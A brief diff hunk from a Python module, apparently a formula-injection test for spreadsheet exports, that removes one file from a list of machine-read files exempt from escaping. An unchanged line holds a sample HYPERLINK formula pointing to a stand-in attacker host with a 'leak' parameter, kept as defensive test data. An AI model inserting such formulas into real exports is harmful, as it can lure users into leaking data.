@@ -17,7 +17,6 @@ APP_PACKAGES = ("customers", "governance", "insight", "mis")
 # leading quote would change the data they carry.
 MACHINE_FILES = {
     "customers/duplicates/services/sweep.py": "the duplicate sweep's input to DuckDB",
-    "customers/duplicates/services/held.py": "an import's incoming rows, input to DuckDB",
 }
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click me")'
 
